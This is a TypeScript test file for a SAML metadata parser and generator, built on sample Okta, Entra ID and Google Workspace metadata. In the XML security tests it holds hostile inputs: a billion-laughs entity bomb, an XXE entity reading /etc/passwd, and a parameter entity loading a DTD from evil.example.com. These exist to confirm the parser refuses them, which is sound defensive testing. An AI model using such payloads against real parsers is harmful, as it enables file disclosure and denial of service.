import { X509Certificate } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { describeCertificate, parseIdpMetadata, spMetadata } from '../../src/domains/sso/saml/metadata.ts';
import { NS, parseXml, pemBody, XML_LIMITS } from '../../src/domains/sso/saml/xml.ts';
import { expectSamlThrow, KEYS } from './fixtures.ts';

const IDP = pemBody(KEYS.idp.cert);
const IDP2 = pemBody(KEYS.idp2.cert);
const ATTACKER = pemBody(KEYS.attacker.cert);
const fingerprint = (pem: string) => new X509Certificate(pem).fingerprint256;

/** The shape Okta publishes (app → Sign On → Metadata URL). */
const OKTA = `<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="http://www.okta.com/exk8abcdEFGH1234x697"><md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>${IDP}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified</md:NameIDFormat><md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://dev-123456.okta.com/app/dev-123456_gatehouse_1/exk8abcdEFGH1234x697/sso/saml"/><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://dev-123456.okta.com/app/dev-123456_gatehouse_1/exk8abcdEFGH1234x697/sso/saml"/></md:IDPSSODescriptor></md:EntityDescriptor>`;

/** The shape Microsoft Entra ID publishes (federationmetadata.xml): default namespaces, a metadata
 * Signature, WS-Federation RoleDescriptors with their own keys and claims, several signing certificates. */
const ENTRA = `\uFEFF<?xml version="1.0" encoding="utf-8"?>
<EntityDescriptor ID="_0f6bd5c8-1a3a-4d27-b1c4-6a4f4d1e2f3a" entityID="https://sts.windows.net/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/" xmlns="urn:oasis:names:tc:SAML:2.0:metadata">
  <Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><Reference URI="#_0f6bd5c8-1a3a-4d27-b1c4-6a4f4d1e2f3a"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms><DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><DigestValue>bm90IGEgcmVhbCBkaWdlc3Q=</DigestValue></Reference></SignedInfo><SignatureValue>bm90IGEgcmVhbCBzaWduYXR1cmU=</SignatureValue><KeyInfo><X509Data><X509Certificate>${IDP}</X509Certificate></X509Data></KeyInfo></Signature>
  <RoleDescriptor xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:fed="http://docs.oasis-open.org/wsfed/federation/200706">
    <KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${ATTACKER}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>
    <fed:ClaimTypesOffered>
      <auth:ClaimType Uri="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name" xmlns:auth="http://docs.oasis-open.org/wsfed/authorization/200706"><auth:DisplayName>Name</auth:DisplayName><auth:Description>The mutable display name of the user.</auth:Description></auth:ClaimType>
      <auth:ClaimType Uri="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress" xmlns:auth="http://docs.oasis-open.org/wsfed/authorization/200706"><auth:DisplayName>Email</auth:DisplayName></auth:ClaimType>
    </fed:ClaimTypesOffered>
    <fed:SecurityTokenServiceEndpoint><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/wsfed</wsa:Address></wsa:EndpointReference></fed:SecurityTokenServiceEndpoint>
    <fed:PassiveRequestorEndpoint><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/wsfed</wsa:Address></wsa:EndpointReference></fed:PassiveRequestorEndpoint>
  </RoleDescriptor>
  <RoleDescriptor xsi:type="fed:ApplicationServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:fed="http://docs.oasis-open.org/wsfed/federation/200706">
    <KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${ATTACKER}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>
    <fed:TargetScopes><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>https://sts.windows.net/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/</wsa:Address></wsa:EndpointReference></fed:TargetScopes>
  </RoleDescriptor>
  <IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${IDP}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>
    <KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${IDP2}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>
    <KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>
${IDP.replace(/(.{64})/g, '$1\n')}
    </X509Certificate></X509Data></KeyInfo></KeyDescriptor>
    <SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/saml2"/>
    <SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/saml2"/>
    <SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/saml2"/>
  </IDPSSODescriptor>
</EntityDescriptor>`;

/** The shape Google Workspace publishes (Admin console → Apps → Custom SAML app → Download metadata). */
const GOOGLE = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://accounts.google.com/o/saml2?idpid=C03abc123" validUntil="2031-06-01T12:00:00.000Z">
  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="signing">
      <ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
        <ds:X509Data>
          <ds:X509Certificate>${IDP2}</ds:X509Certificate>
        </ds:X509Data>
      </ds:KeyInfo>
    </md:KeyDescriptor>
    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified</md:NameIDFormat>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://accounts.google.com/o/saml2/idp?idpid=C03abc123"/>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://accounts.google.com/o/saml2/idp?idpid=C03abc123"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>`;

/** Without the XML declaration, to embed or prefix. */
const OKTA_BODY = OKTA.replace(/^<\?xml[^>]*\?>/, '');

describe('parseIdpMetadata', () => {
  it('reads Okta metadata', () => {
    const md = parseIdpMetadata(OKTA);
    expect(md).toEqual({
      entityId: 'http://www.okta.com/exk8abcdEFGH1234x697',
      ssoUrl: 'https://dev-123456.okta.com/app/dev-123456_gatehouse_1/exk8abcdEFGH1234x697/sso/saml',
      ssoBinding: 'HTTP-Redirect',
      sloUrl: null,
      sloBinding: null,
      nameIdFormat: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
      certificates: [
        {
          pem: new X509Certificate(KEYS.idp.cert).toString(),
          notAfter: expect.stringMatching(/^2126-/),
          subject: 'CN=idp.gatehouse.test, O=Gatehouse test',
        },
      ],
    });
  });

  it('reads Microsoft Entra ID metadata: ignores the WS-Federation RoleDescriptors and their keys, keeps each IdP certificate once', () => {
    const md = parseIdpMetadata(ENTRA);
    expect(md).toMatchObject({
      entityId: 'https://sts.windows.net/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/',
      ssoUrl: 'https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/saml2',
      ssoBinding: 'HTTP-Redirect',
      sloUrl: 'https://login.microsoftonline.com/8eaef023-2b34-4da1-9baa-8bc8c9d6a490/saml2',
      sloBinding: 'HTTP-Redirect',
      nameIdFormat: null,
    });
    expect(md.certificates.map((c) => fingerprint(c.pem))).toEqual([
      fingerprint(KEYS.idp.cert),
      fingerprint(KEYS.idp2.cert),
    ]);
    expect(md.certificates.map((c) => c.pem).join()).not.toContain(ATTACKER.slice(0, 64));
  });

  it('reads Google Workspace metadata', () => {
    const md = parseIdpMetadata(GOOGLE);
    expect(md).toMatchObject({
      entityId: 'https://accounts.google.com/o/saml2?idpid=C03abc123',
      ssoUrl: 'https://accounts.google.com/o/saml2/idp?idpid=C03abc123',
      ssoBinding: 'HTTP-Redirect',
      nameIdFormat: 'urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified',
    });
    expect(md.certificates).toHaveLength(1);
    expect(md.certificates[0].subject).toBe('CN=idp2.gatehouse.test, O=Gatehouse test');
  });

  it('falls back to the HTTP-POST SSO binding and reads an EntitiesDescriptor holding one IdP', () => {
    const postOnly = OKTA.replace(
      /<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"[^>]*\/>/,
      '',
    );
    expect(parseIdpMetadata(postOnly).ssoBinding).toBe('HTTP-POST');
    const wrapped = `<md:EntitiesDescriptor xmlns:md="${NS.md}">${OKTA_BODY}</md:EntitiesDescriptor>`;
    expect(parseIdpMetadata(wrapped).entityId).toBe('http://www.okta.com/exk8abcdEFGH1234x697');
    const two = `<md:EntitiesDescriptor xmlns:md="${NS.md}">${OKTA_BODY}${GOOGLE.replace(/^<\?xml[^>]*\?>/, '')}</md:EntitiesDescriptor>`;
    expectSamlThrow(() => parseIdpMetadata(two), 'metadata.ambiguous');
  });

  it('lists an expired certificate with its notAfter (the caller decides)', () => {
    const md = parseIdpMetadata(OKTA.replace(IDP, pemBody(KEYS.expired.cert)));
    expect(md.certificates[0].notAfter).toMatch(/^2026-11-24T/);
  });

  it('names what is missing', () => {
    const noEntityId = OKTA.replace(' entityID="http://www.okta.com/exk8abcdEFGH1234x697"', '');
    const e1 = expectSamlThrow(() => parseIdpMetadata(noEntityId), 'metadata.missing-entity-id');
    expect(e1.message).toMatch(/entityID/);
    const spOnly = OKTA.replace(/IDPSSODescriptor/g, 'SPSSODescriptor');
    const e2 = expectSamlThrow(() => parseIdpMetadata(spOnly), 'metadata.missing-idp-descriptor');
    expect(e2.message).toMatch(/IDPSSODescriptor/);
    const e3 = expectSamlThrow(
      () => parseIdpMetadata(OKTA.replace(/<md:SingleSignOnService[^>]*\/>/g, '')),
      'metadata.missing-sso-service',
    );
    expect(e3.message).toMatch(/SingleSignOnService/);
    const e4 = expectSamlThrow(
      () => parseIdpMetadata(OKTA.replace(/<md:KeyDescriptor[\s\S]*<\/md:KeyDescriptor>/, '')),
      'metadata.missing-signing-certificate',
    );
    expect(e4.message).toMatch(/signing certificate/);
    expectSamlThrow(
      () => parseIdpMetadata(OKTA.replace('use="signing"', 'use="encryption"')),
      'metadata.missing-signing-certificate',
    );
    const saml11 = OKTA.replace('urn:oasis:names:tc:SAML:2.0:protocol"', 'urn:oasis:names:tc:SAML:1.1:protocol"');
    expectSamlThrow(() => parseIdpMetadata(saml11), 'metadata.missing-idp-descriptor');
    expectSamlThrow(() => parseIdpMetadata('<html><body>Sign in</body></html>'), 'metadata.invalid');
    expectSamlThrow(() => parseIdpMetadata(OKTA.replace(IDP, 'bm90IGEgY2VydGlmaWNhdGU=')), 'certificate.invalid');
  });

  it('refuses a billion-laughs document', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const body = OKTA_BODY.replace('</md:EntityDescriptor>', '&lol9;</md:EntityDescriptor>');
    const xml = `<?xml version="1.0"?><!DOCTYPE md:EntityDescriptor [<!ENTITY lol0 "lol">${entities}]>${body}`;
    expectSamlThrow(() => parseIdpMetadata(xml), 'document.dtd');
  });

  it('refuses XXE (external and parameter entities)', () => {
    const body = OKTA_BODY.replace('exk8abcdEFGH1234x697"', 'exk8abcdEFGH1234x697&xxe;"');
    const external = `<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body}`;
    expectSamlThrow(() => parseIdpMetadata(external), 'document.dtd');
    const parameter = `<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example.com/x.dtd">%remote;]>${OKTA_BODY}`;
    expectSamlThrow(() => parseIdpMetadata(parameter), 'document.dtd');
  });

  it('refuses a document over 1 MB', () => {
    const padded = OKTA.replace(
      '<md:IDPSSODescriptor',
      `<!--${'x'.repeat(XML_LIMITS.metadata)}--><md:IDPSSODescriptor`,
    );
    expectSamlThrow(() => parseIdpMetadata(padded), 'document.too-large');
    expect(
      parseIdpMetadata(
        OKTA.replace(
          '<md:IDPSSODescriptor',
          `<!--${'x'.repeat(XML_LIMITS.metadata - OKTA.length - 100)}--><md:IDPSSODescriptor`,
        ),
      ).entityId,
    ).toBeTruthy();
  });
});

describe('spMetadata', () => {
  const opts = {
    entityId: 'https://gatehouse.example.com/saml/metadata?org=a&b=<c>',
    acsUrl: 'https://gatehouse.example.com/saml/acs',
    sloUrl: 'https://gatehouse.example.com/saml/slo',
    signingCertPem: KEYS.sp.cert,
    encryptionCertPem: KEYS.idp2.cert,
    wantAssertionsSigned: true,
  };

  it('writes a well-formed SPSSODescriptor with escaped values', () => {
    const xml = spMetadata(opts);
    const root = parseXml(xml, { maxBytes: XML_LIMITS.metadata }).documentElement!;
    expect(root.namespaceURI).toBe(NS.md);
    expect(root.getAttribute('entityID')).toBe(opts.entityId);
    const sp = root.getElementsByTagNameNS(NS.md, 'SPSSODescriptor')[0];
    expect(sp.getAttribute('AuthnRequestsSigned')).toBe('true');
    expect(sp.getAttribute('WantAssertionsSigned')).toBe('true');
    expect(sp.getAttribute('protocolSupportEnumeration')).toBe(NS.samlp);
    const acs = sp.getElementsByTagNameNS(NS.md, 'AssertionConsumerService')[0];
    expect(acs.getAttribute('Binding')).toBe('urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST');
    expect(acs.getAttribute('Location')).toBe(opts.acsUrl);
    expect(sp.getElementsByTagNameNS(NS.md, 'SingleLogoutService')[0].getAttribute('Location')).toBe(opts.sloUrl);
    const keys = Array.from(sp.getElementsByTagNameNS(NS.md, 'KeyDescriptor'));
    expect(keys.map((k) => k.getAttribute('use'))).toEqual(['signing', 'encryption']);
    const certs = keys.map((k) => k.getElementsByTagNameNS(NS.ds, 'X509Certificate')[0].textContent);
    expect(certs).toEqual([pemBody(KEYS.sp.cert), pemBody(KEYS.idp2.cert)]);
  });

  it('omits SingleLogoutService without sloUrl and reflects wantAssertionsSigned', () => {
    const xml = spMetadata({ ...opts, sloUrl: undefined, wantAssertionsSigned: false });
    expect(xml).not.toContain('SingleLogoutService');
    expect(xml).toContain('WantAssertionsSigned="false"');
  });

  it('refuses an invalid certificate', () => {
    expectSamlThrow(() => spMetadata({ ...opts, signingCertPem: 'nope' }), 'certificate.invalid');
  });
});

describe('describeCertificate', () => {
  it('describes a PEM or bare base64 certificate', () => {
    const fromPem = describeCertificate(KEYS.idp.cert);
    expect(fromPem).toEqual({
      pem: new X509Certificate(KEYS.idp.cert).toString(),
      notBefore: expect.stringMatching(/^2026-11-23T/),
      notAfter: expect.stringMatching(/^2126-10-30T/),
      subject: 'CN=idp.gatehouse.test, O=Gatehouse test',
      fingerprint256: fingerprint(KEYS.idp.cert),
    });
    expect(describeCertificate(pemBody(KEYS.idp.cert))).toEqual(fromPem);
  });

  it('refuses what is not one certificate', () => {
    expectSamlThrow(() => describeCertificate('hello'), 'certificate.invalid');
    expectSamlThrow(() => describeCertificate(KEYS.idp.key), 'certificate.invalid');
    expectSamlThrow(() => describeCertificate(`${KEYS.idp.cert}\n${KEYS.idp2.cert}`), 'certificate.invalid');
  });
});
